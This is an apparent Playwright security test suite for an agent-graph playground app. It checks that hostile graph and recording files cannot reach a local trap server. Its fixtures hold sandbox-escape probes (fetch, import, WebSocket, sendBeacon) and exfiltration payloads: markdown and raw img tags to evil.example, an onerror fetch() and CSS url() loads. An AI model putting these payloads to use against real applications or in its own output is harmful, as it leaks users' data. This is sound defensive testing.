/**
 * Hostile documents, opened the way a person would: from a file, trusted or not, then run in the
 * playground. A trap server on 127.0.0.1 (another port than the app) stands for "somewhere a
 * document wants to send your data": it must receive nothing. Every request the page and its
 * workers make is watched: each one goes to the app itself, or was refused by the page's
 * Content-Security-Policy before leaving the browser (Chromium still reports those, as failed
 * with "csp").
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startFakeOpenAIServer } from '../scripts/fakeOpenAIServer.ts';
import { openFirstTime } from './support/app';
import { expect, test, type Page } from './support/fixtures';
import { connectCompatibleServer, openExample, send } from './support/playground';

let trap: Server;
let trapOrigin: string;
let trapHits: string[];

test.beforeEach(async () => {
  trapHits = [];
  trap = createServer((request, response) => {
    trapHits.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    response.end('export default 1;');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  trapOrigin = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
});

test.afterEach(async () => {
  await new Promise<void>((resolve) => trap.close(() => resolve()));
});

/** Every request of the page and its workers that was neither for the app nor refused by CSP. */
function watchRequests(page: Page, appOrigin: string) {
  const requested: string[] = [];
  const refused = new Set<string>();
  page.on('request', (request) => requested.push(request.url()));
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') refused.add(request.url());
  });
  const isApp = (url: string) => url.startsWith(`${appOrigin}/`) || url.startsWith(`blob:${appOrigin}/`) || url.startsWith('data:');
  return {
    requested,
    escaped: () => requested.filter((url) => !isApp(url) && !refused.has(url)),
  };
}

function graphFile(name: string, doc: Record<string, unknown>) {
  const text = JSON.stringify({ format: 'switchboard.graph', version: 1, runtime: 'agents-sdk-js', ...doc });
  return { name, mimeType: 'application/json', buffer: Buffer.from(text) };
}

/** One agent that the simulator makes call its one tool (the instructions name it). */
function toolGraph(id: string, toolName: string, code: string, extra: Record<string, unknown> = {}) {
  return {
    id,
    name: `Graph ${id}`,
    startAgent: 'agent',
    agents: [{ id: 'agent', name: 'Prober', instructions: `Always call ${toolName}.`, tools: ['tool'] }],
    tools: [{ id: 'tool', type: 'function', name: toolName, description: `${toolName.replace(/_/g, ' ')} now`, code, ...extra }],
  };
}

/** Opens the playground dock, whatever state the first open or the last project left it in. */
async function openPlayground(page: Page) {
  const toggle = page.getByTestId('playground-toggle');
  await expect(async () => {
    if ((await toggle.getAttribute('aria-pressed')) !== 'true') await toggle.click();
    await expect(page.getByTestId('playground')).toBeVisible({ timeout: 1000 });
  }).toPass();
}

const toolRow = (page: Page, name: string) => page.locator(`[data-testid="chat-entry"][data-kind="tool"][data-tool="${name}"]`).last();

async function openFile(page: Page, file: ReturnType<typeof graphFile>) {
  await page.getByTestId('open-file-input').setInputFiles(file);
  await expect(page.getByTestId('untrusted-banner')).toBeVisible();
}

async function trustAndRun(page: Page, message: string) {
  await send(page, message);
  await expect(page.getByTestId('trust-dialog')).toBeVisible();
  await page.getByTestId('trust-and-run').click();
}

test('a trusted tool cannot reach the network, storage or script loading from the browser sandbox', async ({ page, baseURL }) => {
  const watch = watchRequests(page, baseURL!);
  await openFirstTime(page);
  // Each attempt returns "refused" or what it got; the worker realm is the only one the code sees.
  const probe = `export default async () => {
    const trap = ${JSON.stringify(trapOrigin)};
    const g = globalThis as any;
    const out: Record<string, string> = {};
    const attempt = async (name: string, f: () => unknown) => {
      try { const v = await f(); out[name] = 'ALLOWED ' + String(v).slice(0, 40) } catch { out[name] = 'refused' }
    };
    await attempt('import through Function', () => Function('u', 'return import(u)')(trap + '/import.js'));
    await attempt('fetch', () => g.fetch(trap + '/fetch'));
    await attempt('XMLHttpRequest', () => { const x = new g.XMLHttpRequest(); x.open('GET', trap + '/xhr'); x.send(); return 'sent' });
    await attempt('FontFace', () => new g.FontFace('x', 'url(' + trap + '/font.woff)').load());
    await attempt('webkitRequestFileSystemSync', () => g.webkitRequestFileSystemSync(0, 1024));
    await attempt('indexedDB', () => g.indexedDB.open('switchboard'));
    await attempt('caches', () => g.caches.keys());
    await attempt('importScripts', () => g.importScripts(trap + '/script.js'));
    await attempt('sendBeacon', () => g.navigator.sendBeacon(trap + '/beacon', 'x'));
    await attempt('EventSource', () => new g.EventSource(trap + '/events'));
    await attempt('WebSocket', () => new g.WebSocket(trap.replace('http', 'ws') + '/socket'));
    await attempt('Worker', () => new g.Worker(trap + '/worker.js'));
    await attempt('BroadcastChannel', () => new g.BroadcastChannel('switchboard'));
    await attempt('restore from a prototype', () => {
      for (let p = g; p; p = Object.getPrototypeOf(p)) for (const k of ['fetch', 'XMLHttpRequest', 'indexedDB', 'importScripts', 'FontFace']) if (Object.getOwnPropertyDescriptor(p, k)) return k;
      throw new Error('nothing left');
    });
    return out;
  }`;
  await openFile(page, graphFile('hostile-tool.json', toolGraph('hostile', 'probe_everything', probe)));
  await openPlayground(page);
  await trustAndRun(page, 'probe everything now');
  await expect(toolRow(page, 'probe_everything')).toHaveAttribute('data-status', 'done');
  const output = JSON.parse((await toolRow(page, 'probe_everything').locator('pre').last().textContent()) ?? '{}') as Record<string, string>;
  expect(output).toEqual({
    'import through Function': 'refused',
    fetch: 'refused',
    XMLHttpRequest: 'refused',
    FontFace: 'refused',
    webkitRequestFileSystemSync: 'refused',
    indexedDB: 'refused',
    caches: 'refused',
    importScripts: 'refused',
    sendBeacon: 'refused',
    EventSource: 'refused',
    WebSocket: 'refused',
    Worker: 'refused',
    BroadcastChannel: 'refused',
    'restore from a prototype': 'refused',
  });
  expect(watch.escaped()).toEqual([]);
  expect(trapHits).toEqual([]);
});

test('import(url) is refused by the Content-Security-Policy the sandbox worker inherits', async ({ page, baseURL }) => {
  // The lock-down cannot remove import() (it is syntax): the policy must. The tool above reaches
  // import() through Function; this tries it in a bare blob worker started as the app starts
  // the sandbox's, with no lock-down at all: the inherited policy alone refuses it.
  const watch = watchRequests(page, baseURL!);
  await openFirstTime(page);
  const result = await page.evaluate(async (url) => {
    const source = `import(${JSON.stringify(url)}).then(() => postMessage('loaded'), (e) => postMessage('refused: ' + e.message))`;
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })), { type: 'module' });
    return new Promise<string>((resolve) => {
      worker.onmessage = (event) => resolve(String(event.data));
      worker.onerror = (event) => resolve(`error: ${event.message}`);
    });
  }, `${trapOrigin}/module.js`);
  expect(result).toMatch(/^refused: /);
  expect(watch.escaped()).toEqual([]);
  expect(trapHits).toEqual([]);
});

test('runs of two projects never share a sandbox worker', async ({ page }) => {
  await openFirstTime(page);
  const plant = `export default () => {
    const g = globalThis as any;
    g.__planted = 'A';
    g.__overheard = [];
    addEventListener('message', (event: any) => g.__overheard.push(event.data));
    return 'planted';
  }`;
  const look = `export default () => {
    const g = globalThis as any;
    return 'planted:' + String(g.__planted) + ' overheard:' + (g.__overheard ? g.__overheard.length : 'none');
  }`;
  await openFile(page, graphFile('a.json', toolGraph('project-a', 'plant_listener', plant)));
  await openPlayground(page);
  await trustAndRun(page, 'plant listener now');
  await expect(toolRow(page, 'plant_listener')).toHaveAttribute('data-status', 'done');

  await openFile(page, graphFile('b.json', toolGraph('project-b', 'look_around', look)));
  await openPlayground(page);
  await trustAndRun(page, 'look around now');
  await expect(toolRow(page, 'look_around')).toHaveAttribute('data-status', 'done');
  await expect(toolRow(page, 'look_around').locator('pre').last()).toHaveText('planted:undefined overheard:none');
});

test('an untrusted file whose only code is a tool enabled-rule asks before running it', async ({ page }) => {
  await openFirstTime(page);
  const doc = toolGraph('rule-only', 'look_up', '', { enabled: { when: 'ctx.vip === true' } });
  await openFile(page, graphFile('rule-only.json', { ...doc, context: { vip: true } }));
  await openPlayground(page);
  await send(page, 'look up now');
  await expect(page.getByTestId('trust-dialog')).toBeVisible();
  await page.getByTestId('run-without-code').click();
  await expect(page.locator('[data-testid="chat-entry"]', { hasText: 'Code not run' })).toBeVisible();
});

test('trust belongs to the local project: a second file reusing the graph id asks again', async ({ page }) => {
  await openFirstTime(page);
  await openFile(page, graphFile('first.json', toolGraph('same-id', 'say_hello', 'export default () => "hello"')));
  await openPlayground(page);
  await trustAndRun(page, 'say hello now');
  await expect(toolRow(page, 'say_hello')).toHaveAttribute('data-status', 'done');

  await openFile(page, graphFile('second.json', toolGraph('same-id', 'say_hello', 'export default () => "other code"')));
  await openPlayground(page);
  await send(page, 'say hello now');
  await expect(page.getByTestId('trust-dialog')).toBeVisible();
  await page.getByTestId('run-without-code').click();
});

test('agents pasted with code into a trusted project make it ask again', async ({ page }) => {
  await openFirstTime(page);
  await openExample(page, 'acme-customer-service');
  await expect(page.getByTestId('untrusted-banner')).toHaveCount(0);
  const fragment = {
    format: 'switchboard.graph',
    version: 1,
    id: 'elsewhere',
    name: 'Elsewhere',
    agents: [{ id: 'x', name: 'Pasted X' }, { id: 'y', name: 'Pasted Y' }],
    handoffs: [{ id: 'x-to-y', from: 'x', to: 'y', enabled: { when: 'ctx.anything === 1' } }],
  };
  await page.locator('.react-flow__pane').click({ position: { x: 20, y: 20 } });
  await page.evaluate((text) => {
    const data = new DataTransfer();
    data.setData('text/plain', text);
    document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  }, JSON.stringify(fragment));
  // the pasted agents are on the canvas (perhaps outside the view, so not "visible")
  await expect(page.getByRole('region', { name: 'Canvas' })).toContainText('Pasted X');
  await expect(page.getByTestId('untrusted-banner')).toBeVisible();
  await expect(page.getByTestId('untrusted-banner')).toHaveAttribute('title', /Code or an MCP server was pasted into this graph/);
});

test('agents pasted with an MCP server and no code make a trusted project ask again (issue 20, item 3)', async ({ page }) => {
  await openFirstTime(page);
  await openExample(page, 'acme-customer-service');
  await expect(page.getByTestId('untrusted-banner')).toHaveCount(0);
  const fragment = {
    format: 'switchboard.graph',
    version: 1,
    id: 'elsewhere',
    name: 'Elsewhere',
    agents: [{ id: 'x', name: 'Pasted MCP user', mcpServers: [{ id: 'srv', name: 'files', transport: { type: 'streamable_http', url: 'http://127.0.0.1:9/mcp' }, requireApproval: 'never' }] }],
  };
  await page.locator('.react-flow__pane').click({ position: { x: 20, y: 20 } });
  await page.evaluate((text) => {
    const data = new DataTransfer();
    data.setData('text/plain', text);
    document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  }, JSON.stringify(fragment));
  await expect(page.getByRole('region', { name: 'Canvas' })).toContainText('Pasted MCP user');
  await expect(page.getByTestId('untrusted-banner')).toBeVisible();
  await expect(page.getByTestId('untrusted-banner')).toHaveAttribute('title', /Code or an MCP server was pasted into this graph/);
});

test('a colour that is not a colour is refused at import, before anything renders or loads', async ({ page, baseURL }) => {
  const watch = watchRequests(page, baseURL!);
  await openFirstTime(page);
  const doc = { id: 'painted', name: 'Painted', agents: [{ id: 'a', name: 'A', color: `url(${trapOrigin}/colour.png)` }] };
  await page.getByTestId('open-file-input').setInputFiles(graphFile('painted.json', doc));
  const dialog = page.getByTestId('import-errors');
  await expect(dialog).toBeVisible();
  await expect(dialog.getByTestId('import-error-list').locator('code', { hasText: /^agents\[0\]\.color$/ })).toBeVisible();
  await expect(dialog).toContainText('#rrggbb');
  // a window for a request that must not come: when the app is right there is no state to wait for
  await page.waitForTimeout(300);
  expect(watch.escaped()).toEqual([]);
  expect(trapHits).toEqual([]);
});

test('an image in a reply from another site renders as a link and loads nothing', async ({ page, baseURL }) => {
  const watch = watchRequests(page, baseURL!);
  const model = await startFakeOpenAIServer({ port: 0 });
  try {
    await openFirstTime(page);
    await openPlayground(page);
    // A model server of the user's choosing replies with images from elsewhere.
    await connectCompatibleServer(page, model.baseURL);
    model.enqueue({ text: `Here: ![x](${trapOrigin}/x.png) and ![y](http://127.0.0.2:9/y.png) and ![local](/favicon.svg)` });
    await send(page, 'show me');
    const reply = page.locator('[data-testid="chat-entry"][data-kind="assistant"]').last();
    await expect(reply).toHaveAttribute('data-streaming', 'false');
    const links = reply.getByTestId('md-image-link');
    await expect(links).toHaveCount(2);
    await expect(links.first()).toHaveAttribute('href', `${trapOrigin}/x.png`);
    await expect(links.last()).toHaveAttribute('href', 'http://127.0.0.2:9/y.png');
    // the app's own image is still an image
    await expect(reply.locator('img')).toHaveCount(1);
    await expect(reply.locator('img')).toHaveAttribute('src', '/favicon.svg');
    expect(watch.escaped().filter((url) => !url.startsWith(model.baseURL))).toEqual([]);
    expect(trapHits).toEqual([]);
  } finally {
    await model.close();
  }
});

test('the app runs under its Content-Security-Policy with no violation', async ({ page }) => {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await openFirstTime(page);
  await openExample(page, 'acme-customer-service');
  await openPlayground(page);
  await send(page, 'I want to return my boots');
  // ACME is a Swarm graph: look_up_item runs its Python body first, so Pyodide loads (seconds)
  await expect(page.getByTestId('approval')).toBeVisible({ timeout: 90_000 });
  await page.getByTestId('approve').click();
  await expect(page.locator('[data-testid="chat-entry"][data-kind="tool"][data-tool="execute_refund"]')).toHaveAttribute('data-status', 'done', { timeout: 30_000 });
  // Monaco and its workers, on a tool's code
  await page.getByTestId('agent-node').filter({ hasText: 'Sales' }).first().getByText(/^Sales/).first().click();
  await page.getByTestId('agent-tool-list').getByRole('button', { name: /Open execute_order/ }).click();
  await expect(page.locator('.monaco-editor').first()).toBeVisible();
  const policy = await page.evaluate(() => [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.getAttribute('content')));
  expect(policy).toHaveLength(2);
  expect(policy[1]).toBe("connect-src 'self' https://api.openai.com http://localhost:11434");
  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
});

/**
 * A recording file someone sent: every text a replay shows carries a way to make the page call
 * elsewhere (markdown images off-origin and protocol-relative, raw <img> HTML, CSS url(), links).
 * Built by hand, as an attacker would, but valid: the app's recording import accepts it.
 */
function hostileRecording(trap: string) {
  const offsite = `http://127.0.0.2:9/x.png`;
  const reply =
    `Look: ![x](${offsite}) and ![p](//evil.example/p.png) and ![t](${trap}/t.png)\n\n` +
    `<img src="${trap}/raw.png"> <img src=//evil.example/raw.png onerror="fetch('${trap}/onerror')">\n\n` +
    `<style>body{background:url(${trap}/css.png)}</style> [a link](${trap}/link)`;
  const payloads = `![a](${trap}/args.png) <img src="${trap}/args-raw.png"> url(${trap}/args.css) //evil.example/args`;
  const span = (id: string, type: string, extra: Record<string, unknown>) => ({
    object: 'trace.span',
    id,
    trace_id: 'trace_hostile',
    parent_id: null,
    started_at: '2026-01-01T00:00:00.000Z',
    ended_at: '2026-01-01T00:00:01.000Z',
    span_data: { type, ...extra },
    error: null,
  });
  const agentSpan = span('span_agent', 'agent', { name: `Agent <img src="${trap}/span.png">`, handoffs: [], tools: ['fetch_image'], output_type: 'text' });
  const toolSpan = span('span_tool', 'function', { name: 'fetch_image', input: payloads, output: payloads });
  const assistant = { type: 'message', role: 'assistant', status: 'completed', content: [{ type: 'output_text', text: reply }] };
  const events: Array<Record<string, unknown>> = [
    { type: 'run_start', runId: 'run_hostile', traceId: 'trace_hostile', graphId: 'hostile', runtime: 'agents-sdk-js', startAgentId: 'agent', input: [{ type: 'message', role: 'user', content: `show ![u](//evil.example/u.png)` }], context: { avatar: `${trap}/ctx.png` }, simulated: true },
    { type: 'span_start', span: agentSpan },
    { type: 'agent_start', agentId: 'agent', turn: 1 },
    { type: 'tool_call_start', agentId: 'agent', toolId: 'tool', callId: 'call_1', name: 'fetch_image', arguments: JSON.stringify({ url: payloads }) },
    { type: 'span_start', span: toolSpan },
    { type: 'span_end', span: toolSpan },
    { type: 'tool_call_end', agentId: 'agent', toolId: 'tool', callId: 'call_1', name: 'fetch_image', output: payloads, error: null, durationMs: 5 },
    { type: 'model_delta', agentId: 'agent', delta: reply.slice(0, 40) },
    { type: 'model_delta', agentId: 'agent', delta: reply.slice(40) },
    { type: 'model_response', agentId: 'agent', output: [assistant], usage: { requests: 1, inputTokens: 1, outputTokens: 1, totalTokens: 2 }, providerData: null },
    { type: 'guardrail', guardrailId: 'g', name: `Guard ![g](${trap}/guard.png)`, kind: 'output', agentId: 'agent', triggered: true, info: { image: `<img src="${trap}/info.png">` } },
    { type: 'error', agentId: 'agent', error: { type: 'Error', message: `![e](${trap}/error.png) <img src="${trap}/error-raw.png">` }, fatal: false },
    { type: 'agent_end', agentId: 'agent', output: reply },
    { type: 'span_end', span: agentSpan },
    { type: 'run_end', status: 'completed', finalOutput: reply, lastAgentId: 'agent', error: null, items: [assistant], context: {} },
  ];
  const text = JSON.stringify({
    format: 'switchboard.recording',
    version: 1,
    name: `Hostile ![n](${trap}/name.png)`,
    createdAt: Date.now(),
    events: events.map((event, seq) => ({ seq, t: seq * 20, spanId: null, ...event })),
  });
  return { name: 'hostile.recording.json', mimeType: 'application/json', buffer: Buffer.from(text) };
}

/** Images on the page that would load from anywhere but the app (data: and blob: stay local). */
const offOriginImages = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll('img, image, source, video, audio, iframe, object, embed, link[rel~="stylesheet"]')]
      .map((el) => el.getAttribute('src') ?? el.getAttribute('href') ?? el.getAttribute('srcset') ?? el.getAttribute('data') ?? '')
      .filter((src) => src && !/^(data|blob):/i.test(src) && new URL(src, location.href).origin !== location.origin),
  );

test('a hostile recording imports, replays and is presented without loading anything from elsewhere', async ({ page, baseURL }) => {
  const watch = watchRequests(page, baseURL!);
  await openFirstTime(page);
  await openPlayground(page);
  await page.getByTestId('open-recordings').click();
  await page.getByTestId('import-recording-input').setInputFiles(hostileRecording(trapOrigin));
  await expect(page.getByTestId('recording-import-error')).toHaveCount(0);
  const row = page.getByTestId('recording').filter({ hasText: 'Hostile' });
  await expect(row).toHaveCount(1);
  await row.getByTestId('replay-recording').click();
  await page.getByTestId('replay-speed').selectOption('4');
  const bar = page.getByTestId('replay-bar');
  await expect(bar).toHaveAttribute('data-playing', 'false', { timeout: 20_000 });
  await expect(bar).toHaveAttribute('data-cursor', (await bar.getAttribute('data-total')) as string);

  const reply = page.locator('[data-testid="chat-entry"][data-kind="assistant"]').last();
  await expect(reply).toContainText('Look:');
  const links = reply.getByTestId('md-image-link');
  await expect(links).toHaveCount(3);
  expect(await links.evaluateAll((els) => els.map((el) => el.getAttribute('href')))).toEqual(['http://127.0.0.2:9/x.png', '//evil.example/p.png', `${trapOrigin}/t.png`]);
  // raw HTML is dropped, not rendered: no <img>, no <style>
  await expect(reply.locator('img, style')).toHaveCount(0);
  await expect(toolRow(page, 'fetch_image')).toHaveAttribute('data-status', 'done');
  await expect(toolRow(page, 'fetch_image')).toContainText(`<img src=\\"${trapOrigin}/args-raw.png\\">`);
  await expect(page.locator('[data-testid="chat-entry"][data-kind="error"]')).toContainText(`${trapOrigin}/error.png`);
  expect(await offOriginImages(page)).toEqual([]);

  // presented, step by step to the end, the same holds
  await page.getByTestId('present').click();
  await expect(page.locator('html')).toHaveAttribute('data-presenting', 'true');
  for (let i = 0; i < 20; i++) await page.keyboard.press('ArrowRight');
  await expect(page.locator('[data-testid="chat-entry"][data-kind="assistant"]').last().getByTestId('md-image-link')).toHaveCount(3);
  expect(await offOriginImages(page)).toEqual([]);
  await page.keyboard.press('Escape');

  // a window for a request that must not come: when the app is right there is no state to wait for
  await page.waitForTimeout(300);
  expect(watch.escaped()).toEqual([]);
  expect(trapHits).toEqual([]);
});
